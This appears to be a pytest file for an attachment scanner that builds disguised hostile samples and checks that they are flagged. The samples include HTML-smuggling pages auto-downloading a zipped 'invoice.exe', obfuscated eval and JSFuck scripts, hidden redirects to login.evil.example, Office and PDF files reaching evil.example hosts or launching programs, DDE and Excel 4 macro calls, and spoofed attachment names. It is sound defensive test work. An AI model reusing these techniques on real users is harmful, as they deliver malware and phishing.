"""Programs and addresses in disguise, each beside an innocent file of the same form: pages that put things together,
documents that reach out, names that programs understand otherwise."""

import base64
import io
import zipfile
import zlib

import pytest
from tests.files import archive_formats as a
from tests.files import document_formats as d
from tests.files.attacks import BLOCKED
from tests.files.test_attacks import judge
from tests.files.test_coverage import report_on

PROGRAM = d.program("", b"data" * 50)
SCRIPT = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'
ZIP = base64.b64encode(a.zipped("invoice.exe", PROGRAM)).decode()
SAVE = (
    "var l = document.createElement('a'); l.href = URL.createObjectURL(new Blob([u])); l.download = 'a.zip'; l.click()"
)
JSFUCK = "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]" * 10
CODES = ",".join(str(ord(letter)) for letter in "location.replace('https://login.evil.example/a')")
PIECES = "+".join(f"'{ZIP[at : at + 40]}'" for at in range(0, len(ZIP), 40))
LIST = ",".join(f"'{ZIP[at : at + 40]}'" for at in range(0, len(ZIP), 40))
ESCAPED = "".join(f"%{ord(letter):02x}" for letter in f"<a id=x download=i.zip href=data:application/zip;base64,{ZIP}>")
NESTED = base64.b64encode(f"location.href='data:application/zip;base64,{ZIP}'".encode()).decode()
RENAMED = ";".join(f"var _0x{number:04x} = {number}" for number in range(0x1000, 0x1020))


def page(script: str) -> bytes:
    return f"<html><body><p>Your document is loading</p><script>{script}</script></body></html>".encode()


@pytest.mark.parametrize(
    ("script", "tag"),
    [
        (f"var u = atob({PIECES}); {SAVE}", "file:html-smuggling"),
        (f"var u = atob([{LIST}].join('')); {SAVE}", "file:html-smuggling"),
        (f"var u = atob('{ZIP.replace('A', '!A')}'.replace(/!/g, '')); {SAVE}", "file:html-smuggling"),
        (f"document.write(unescape('{ESCAPED}')); x.click()", "file:executable"),
        (f"eval(atob('{NESTED}'))", "file:executable"),
        (f"eval(String.fromCharCode({CODES}))", "file:html-hidden-redirect"),
        (
            "var a = 'htt', b = 'ps://lo', c = 'gin.evil.example/x'; top.location = a + b + c",
            "file:html-hidden-redirect",
        ),
        (JSFUCK, "file:html-obfuscated"),
        (RENAMED, "file:html-obfuscated"),
        ("fetch('https://e.example/k').then(r => r.text()).then(t => document.write(t))", "file:html-written-page"),
        ("new WebSocket('wss://e.example/k').onmessage = e => document.write(e.data)", "file:html-written-page"),
    ],
)
@pytest.mark.parametrize("packed", [False, True], ids=["alone", "in a zip"])
def test_pages(script: str, tag: str, packed: bool) -> None:
    name, content, kind = "page.html", page(script), ("text", "html")
    if packed:
        name, content, kind = "a.zip", a.zipped(name, content), ("application", "zip")
    report = report_on(name, content, kind)
    assert report.decision != "deliver"
    assert tag in report.tags


@pytest.mark.parametrize(
    "script",
    [
        "window.print()",
        "var s = document.createElement('script'); s.src = 'https://stats.example/s.js'; document.head.append(s)",
        "document.getElementById('total').innerHTML = (12.5 * 3).toFixed(2)",
        "var rows = ['a', 'b'].join(', '); document.title = rows.replace(/a/g, 'b')",
        "if (window.top != window.self) top.location = 'https://shop.example/'; // https://shop.example/",
    ],
)
def test_innocent_pages(script: str) -> None:
    assert report_on("report.html", page(script), ("text", "html")).decision == "deliver"


def test_a_page_that_decrypts_itself_is_unread() -> None:
    report = report_on("secure.html", page(f"document.write(CryptoJS.AES.decrypt('{ZIP}', key))"), ("text", "html"))
    assert {"limit:encrypted", "file:encrypted-document"} <= set(report.tags)


def office(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        for name, text in parts.items():
            packed.writestr(name, text)
    return out.getvalue()


def relation(kind: str, target: str) -> bytes:
    text = f'<Relationships><Relationship Type="x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return office(**{"word/_rels/document.xml.rels": text})


def pdf(catalogue: str) -> bytes:
    return f"%PDF-1.5\n1 0 obj<</Type/Catalog{catalogue}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF".encode()


MACRO = '<script:module xmlns:script="x" script:name="M" script:language="StarBasic">{}</script:module>'
OPENED = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.M.b"/>'
SHEET = '<xm:macrosheet xmlns:xm="m"><c><f>EXEC("calc")</f></c></xm:macrosheet>'
NAME = '<workbook><definedName name="_xlnm.Auto_Open">M!A1</definedName></workbook>'
XHTML = b"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>"
CARD = b"BEGIN:VCARD\r\nURL;ENCODING=QUOTED-PRINTABLE:https=3A=2F=2Flogin=2Eblocked=2Eexample=2Fa\r\nEND:VCARD\r\n"
STYLE = (
    '<?xml version="1.0"?><s xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">{}</ms:script></s>'
)


@pytest.mark.parametrize(
    ("name", "content", "tag"),
    [
        ("a.docx", relation("image", r"\\files.evil.example\a.png"), "file:remote-object"),
        ("a.docx", relation("image", "file://evil.example/a.png"), "file:remote-object"),
        ("a.xlsm", office(**{"xl/m.xml": SHEET, "xl/workbook.xml": NAME}), "file:excel4-macro"),
        ("a.odt", office(**{"content.xml": OPENED, "Basic/M.xml": MACRO.format('Shell("calc")')}), "file:macro-call"),
        ("a.xml", b"<?xml version='1.0'?><Workbook><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>", "file:dde"),
        ("a.xml", STYLE.format("new ActiveXObject('x')").encode(), "file:program-action"),
        ("a.ps", b"%!PS\n(%pipe%calc) (w) file\n", "file:program-action"),
        ("a.pdf", pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a)/D[0/Fit]>>"), "file:remote-object"),
        (
            "a.pdf",
            pdf("/OpenAction<</S/JavaScript/JS(this.exportDataObject\\({cName: 'a', nLaunch: 2}\\))>>"),
            "file:pdf-launch",
        ),
        ("a.inetloc", b"<plist><dict><key>URL</key><string>FiLe:///Applications/A.app</string></dict></plist>", ""),
        (
            "a.xhtml",
            b"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>" + JSFUCK.encode(),
            "",
        ),
    ],
)
def test_documents(name: str, content: bytes, tag: str) -> None:
    report = report_on(name, content)
    assert report.decision != "deliver", report.tags
    assert not tag or tag in report.tags


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", relation("image", "https://pictures.example/a.png")),
        ("a.docx", relation("image", r"\\fileserver\logo.png")),
        ("a.odt", office(**{"content.xml": "<office:text/>", "Basic/M.xml": MACRO.format("a = 1")})),
        ("a.xml", b"<?xml version='1.0'?><Workbook><Cell ss:Formula='=SUM(A1:A3)'/></Workbook>"),
        ("a.ps", b"%!PS\n(a page) show showpage\n"),
        ("a.pdf", pdf("/OpenAction<</S/JavaScript/JS(this.getField\\('total'\\).value = 3;)>>")),
        ("a.gz", a.gzipped("", b"a note") + bytes(512)),
        ("a.zip", a.zipped("note.txt", b"a note") + b"\0\r\n" * 20),
        ("a.7z", a.sevenzip("note.txt", b"a note")),
        ("a.webloc", b"<plist><dict><key>URL</key><string>https://a.example/</string></dict></plist>"),
        ("a.json", b'{"site": "https://a.example/"}'),
    ],
)
def test_innocent_documents(name: str, content: bytes) -> None:
    assert report_on(name, content).decision == "deliver"


def attach(*fields: str) -> bytes:
    head = "From: Ann <ann@a.example>\r\nTo: bob@b.example\r\nSubject: The file\r\nMIME-Version: 1.0\r\n"
    part = "\r\n".join((*fields, "Content-Transfer-Encoding: base64")) + "\r\n\r\n"
    return (
        head + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nThe file.\r\n--b\r\n' + part
    ).encode() + (base64.encodebytes(SCRIPT) + b"--b--\r\n")


@pytest.mark.parametrize(
    "fields",
    [
        ("Content-Type: application/octet-stream", "Content-Location: https://a.example/files/invoice.js"),
        ("Content-Type: application/octet-stream", "Content-Description: invoice.js"),
        ("Content-Type: application/octet-stream", 'Content-Disposition: attachment; filename="invoice.js\0.txt"'),
    ],
)
def test_names_from_elsewhere(fields: tuple[str, ...]) -> None:
    assert "file:runnable-name" in judge(attach(*fields)).tags


@pytest.mark.parametrize(
    "name", ["a.z01", "a.7z.002", "a.zip.003", "a.r05", "a.br", "a.lzfse", "a.b1", "a.nrg", "a.crx"]
)
def test_archives_that_nothing_opens_are_said(name: str) -> None:
    assert report_on(name, b"\x93\x11garbage" * 30).verdict == "unscannable"


@pytest.mark.parametrize("name", ["report.2026", "scan.001", "data.bin"])
def test_other_names_are_not(name: str) -> None:
    assert report_on(name, zlib.compress(b"a" * 100)).decision == "deliver"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", office(**{"word/document.xml": f'<w:p><v:shape href="https://{BLOCKED}/a"/></w:p>'})),
        ("a.xlsx", office(**{"xl/s.xml": f'<f>HYPERLINK("https://login."&amp;"{BLOCKED[6:]}/a")</f>'})),
        ("a.xps", office(**{"1.fpage": f'<Glyphs UnicodeString="see https://{BLOCKED}/a"/>'})),
        ("a.gpx", f"<?xml version='1.0'?><gpx><link href='https://{BLOCKED}/a'/></gpx>".encode()),
        ("a.m3u", f"#EXTM3U\nhttps://{BLOCKED}/a\n".encode()),
        ("a.webloc", f"<?xml version='1.0'?><plist><string>https://{BLOCKED}/a</string></plist>".encode()),
        (
            "a.vcf",
            b"BEGIN:VCARD\r\nURL;ENCODING=QUOTED-PRINTABLE:https=3A=2F=2Flogin=2Eblocked=2Eexample=2Fa\r\nEND:VCARD\r\n",
        ),
        ("a.html", page(f"new WebSocket('wss://{BLOCKED}/a')")),
        ("a.html", f"<a href='intent://{BLOCKED}/a#Intent;scheme=https;end'>x</a>".encode()),
    ],
)
def test_links_in_files_reach_the_lists(name: str, content: bytes) -> None:
    part = f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"'
    raw = attach(part).replace(base64.encodebytes(SCRIPT), base64.encodebytes(content))
    assert "list:blocked-urls" in judge(raw).tags
